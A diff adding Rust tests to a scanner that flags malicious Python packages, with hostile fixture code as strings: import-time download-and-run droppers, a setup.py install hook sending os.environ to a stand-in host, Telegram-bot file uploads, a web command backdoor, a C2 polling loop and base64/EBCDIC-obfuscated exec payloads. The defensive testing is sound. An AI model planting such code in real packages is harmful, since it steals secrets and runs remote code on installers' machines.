@@ -270,3 +270,230 @@ requests.post(HOOK, json={"content": "hi"})
     let f = run("pkg/__init__.py", FileRole::PackageInit, src);
     assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
 }
+
+fn has(f: &[Finding], alert: AlertId) -> bool {
+    f.iter().any(|x| x.alert == alert)
+}
+
+#[test]
+fn main_block_is_not_reached_from_import() {
+    // lxml's buildlibxml.py shape: helpers that fetch and build, run only from `__main__`
+    let src = r#"
+import os, subprocess
+from ftplib import FTP
+from urllib.request import urlretrieve, urlopen, Request
+def read_url(url, token=None):
+    return urlopen(Request(url, headers={"authorization": token})).read()
+def latest():
+    return read_url("https://127.0.0.1/releases", token=os.environ.get("GITHUB_API_TOKEN"))
+def list_ftp(url):
+    ftp = FTP(url)
+    return ftp.nlst()
+def build(dest):
+    urlretrieve(latest(), dest + "/lib.tgz")
+    subprocess.call(["./configure"], cwd=dest)
+if __name__ == "__main__":
+    list_ftp("127.0.0.1")
+    build("/tmp/x")
+"#;
+    let f = run("lx-1.0/buildlibxml.py", FileRole::Module, src);
+    assert!(!critical(&f), "{f:#?}");
+    // the same dropper at module level runs on import: still critical
+    let dropper = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve('http://127.0.0.1/x.sh', '/tmp/x.sh')\nsubprocess.call(['sh', '/tmp/x.sh'])\n";
+    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, dropper), AlertId::DownloadExec));
+}
+
+#[test]
+fn loose_modules_outside_script_dirs_are_not_dormant() {
+    let beacon = "import requests, getpass\nrequests.post('http://127.0.0.1:9/', json={'u': getpass.getuser()})\n";
+    let init = SourceFile { path: "p-1.0/pkg/__init__.py", text: "", role: FileRole::PackageInit };
+    let odd = SourceFile { path: "p-1.0/pkg/__init__py.py/pkg/beacon.py", text: beacon, role: FileRole::Module };
+    let f = analyze_package(&[init, odd], &PackageContext::default());
+    assert!(has(&f, AlertId::Exfiltration), "{f:#?}");
+    // hand-run maintenance scripts stay dormant
+    let script = SourceFile { path: "p-1.0/scripts/internal/report.py", text: beacon, role: FileRole::Module };
+    let f = analyze_package(&[init, script], &PackageContext::default());
+    assert!(!critical(&f), "{f:#?}");
+    assert!(has(&f, AlertId::DormantMaliciousCode));
+}
+
+#[test]
+fn chat_bot_exfiltration_at_runtime() {
+    let src = r#"
+import requests
+BOT = "123456789:AAbbccddeeffgghhiijjkkllmmnnooppqqr"
+def send(path):
+    url = f"https://api.telegram.org/bot{BOT}/sendDocument"
+    with open(path, "rb") as f:
+        requests.post(url, files={"document": f}, data={"chat_id": "1"})
+"#;
+    let f = run("pkg/monitor.py", FileRole::Module, src);
+    assert!(has(&f, AlertId::Exfiltration), "{f:#?}");
+    // a fixed message to a hook is reported as webhook-url only
+    let benign = r#"
+import requests
+HOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"
+def notify():
+    requests.post(HOOK, json={"content": "build finished"})
+"#;
+    let f = run("pkg/notify.py", FileRole::Module, benign);
+    assert!(!critical(&f), "{f:#?}");
+    assert!(has(&f, AlertId::WebhookUrl));
+}
+
+#[test]
+fn import_time_beacons() {
+    let post = "import requests\nimport sys\nrequests.post('http://canary.invalid/p', data={'argv': sys.argv[0]})\n";
+    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, post), AlertId::Exfiltration));
+    let dns = "import socket\ntry:\n    socket.gethostbyname('pkg_name.beacon.example.invalid')\nexcept OSError:\n    pass\n";
+    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, dns), AlertId::Exfiltration));
+    // look-alikes: a fixed version check, a connectivity probe, a computed download URL
+    let benign = r#"
+import socket, urllib.request
+__version__ = "1.0"
+try:
+    socket.gethostbyname("pypi.org")
+except OSError:
+    pass
+def fetch(fname):
+    return urllib.request.urlopen(fname).read()
+urllib.request.urlopen("https://pypi.org/pypi/pkg/json", timeout=1)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, benign);
+    assert!(!critical(&f), "{f:#?}");
+}
+
+#[test]
+fn request_object_carrying_the_environment() {
+    let src = r#"
+import os, urllib.request, urllib.parse
+from setuptools import setup
+from setuptools.command.install import install
+def collect():
+    data = dict(os.environ)
+    body = urllib.parse.urlencode(data).encode()
+    return urllib.request.Request('http://127.0.0.1:9/', data=body)
+class I(install):
+    def run(self):
+        install.run(self)
+        collect()
+setup(name='canary', cmdclass={'install': I})
+"#;
+    assert!(has(&run("canary-1.0/setup.py", FileRole::SetupScript, src), AlertId::Exfiltration));
+    let benign = "import urllib.request\ndef get(url, token):\n    return urllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': token}))\n";
+    assert!(!critical(&run("pkg/http.py", FileRole::Module, benign)));
+}
+
+#[test]
+fn ebcdic_and_codec_decodes_are_folded() {
+    // getattr(builtins, b'…'.decode('cp1026')) is eval; the payload is rescanned
+    let src = "import builtins\ncc = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\ncc(b'\\x85\\xa7\\x85\\x83M\\xfc\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\xa3\\x96\\xa4\\x83\\x88@a\\xa3\\x94\\x97a\\x94\\x81\\x99\\x92\\x85\\x99}]\\xfc]'.decode('cp1026'))\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f), "{f:#?}");
+    assert!(f.iter().any(|x| x.evidence.contains("touch /tmp/marker") || x.message.contains("touch /tmp/marker")), "{f:#?}");
+    // Python 2 style str.decode('base64')
+    let py2 = "exec('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInRvdWNoIC90bXAvbWFya2VyIik='.decode('base64'))\n";
+    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, py2), AlertId::DecodeExec));
+    // an EBCDIC label table in a codec library is not code
+    let benign = "LABEL = b'\\xc8\\x85\\x93\\x93\\x96'.decode('cp037')\nprint(LABEL)\n";
+    assert!(!critical(&run("pkg/labels.py", FileRole::Module, benign)));
+}
+
+#[test]
+fn lambda_and_def_decoders_are_applied() {
+    // base64 of b"import os; os.system('touch /tmp/marker')", reversed
+    let enc: String = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RvdWNoIC90bXAvbWFya2VyJyk=".chars().rev().collect();
+    let src = format!("_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec((_)(b'{enc}'))\n");
+    let f = run("pkg/lib.py", FileRole::Module, &src);
+    assert!(has(&f, AlertId::DecodeExec), "{f:#?}");
+    assert!(f.iter().any(|x| x.message.contains("touch /tmp/marker") || x.evidence.contains("touch /tmp/marker")), "{f:#?}");
+    let def = format!("import base64\ndef d(s):\n    '''decode'''\n    return base64.b64decode(s[::-1])\nexec(d('{enc}'))\n");
+    assert!(has(&run("pkg/lib.py", FileRole::Module, &def), AlertId::DecodeExec));
+    // a helper that only formats text is not a decoder
+    let benign = "fmt = lambda s: s.strip().lower()\nprint(fmt(' Hello '))\n";
+    assert!(run("pkg/lib.py", FileRole::Module, benign).is_empty());
+}
+
+#[test]
+fn web_request_input_run_as_command_is_a_backdoor() {
+    let src = r#"
+import subprocess
+from flask import Flask, request
+app = Flask(__name__)
+@app.route('/x')
+def x():
+    return subprocess.Popen(request.args.get('c'), shell=True, stdout=subprocess.PIPE).stdout.read()
+app.run(host='127.0.0.1', port=9)
+"#;
+    assert!(has(&run("pkg/tools.py", FileRole::Module, src), AlertId::ReverseShell));
+    let django = "import subprocess\ndef view(request):\n    cmd = request.GET['c']\n    return subprocess.check_output(cmd, shell=True)\n";
+    assert!(has(&run("pkg/views.py", FileRole::Module, django), AlertId::ReverseShell));
+    // a handler that runs a fixed program with a validated option
+    let benign = r#"
+import subprocess
+from flask import request
+def status():
+    fmt = "json" if request.args.get("fmt") == "json" else "text"
+    return subprocess.run(["git", "status"], capture_output=True).stdout
+"#;
+    assert!(!critical(&run("pkg/views.py", FileRole::Module, benign)));
+}
+
+#[test]
+fn command_and_control_through_a_helper() {
+    let src = r#"
+import subprocess, requests, time
+def debug():
+    while True:
+        resp = requests.get("http://127.0.0.1:9/").text
+        out = runcommand(resp)
+        requests.post("http://127.0.0.1:9/out", data={"o": out})
+        time.sleep(1)
+def runcommand(value):
+    return subprocess.run(value, shell=True, capture_output=True).stdout
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(has(&f, AlertId::DownloadExec), "{f:#?}");
+    let loop_ = "import subprocess, requests\nfor cmd in requests.get('http://127.0.0.1:9/c').json()['cmds']:\n    subprocess.run(cmd, shell=True)\n";
+    assert!(has(&run("pkg/agent.py", FileRole::Module, loop_), AlertId::DownloadExec));
+    // a fetched version used inside a fixed command is not a C2 loop
+    let benign = r#"
+import subprocess, requests
+def run(cmd):
+    return subprocess.run(cmd, shell=True)
+def upgrade():
+    v = requests.get("https://pypi.org/pypi/pkg/json").json()["info"]["version"]
+    run(f"pip install pkg=={v}")
+    run("echo done")
+"#;
+    assert!(!critical(&run("pkg/upgrade.py", FileRole::Module, benign)), "{:#?}", run("pkg/upgrade.py", FileRole::Module, benign));
+}
+
+#[test]
+fn shell_download_then_run_on_import() {
+    let src = r#"
+import os, requests
+def get_url():
+    return requests.get("http://127.0.0.1:9/raw").text
+def run_file(path):
+    os.system(f"python {path}")
+def main():
+    url = get_url()
+    os.system(f"curl -o /tmp/x.zip {url}")
+    os.system("tar -xf /tmp/x.zip -C /tmp")
+    run_file("/tmp/code.py")
+main()
+"#;
+    assert!(has(&run("pkg/setup.py", FileRole::Module, src), AlertId::DownloadExec));
+    // a runtime helper that downloads with curl and unpacks (no hard-coded payload URL)
+    let benign = "import os\ndef fetch(url):\n    os.system(f'curl -o /tmp/data.tgz {url}')\n    os.system('tar -xf /tmp/data.tgz')\n";
+    assert!(!critical(&run("pkg/data.py", FileRole::Module, benign)));
+}
+
+#[test]
+fn git_clone_then_run_on_import() {
+    let src = "import git, subprocess, os\ngit.Repo.clone_from('http://127.0.0.1:9/r.git', '/tmp/r')\nos.chdir('/tmp/r')\nsubprocess.run(['python', 'marker.py'])\n";
+    assert!(has(&run("pkg/utils.py", FileRole::Module, src), AlertId::DownloadExec));
+    let benign = "import git, subprocess\ndef clone(url, dest):\n    git.Repo.clone_from(url, dest)\n    subprocess.run(['make'], cwd=dest)\n";
+    assert!(!critical(&run("pkg/vcs.py", FileRole::Module, benign)));
+}
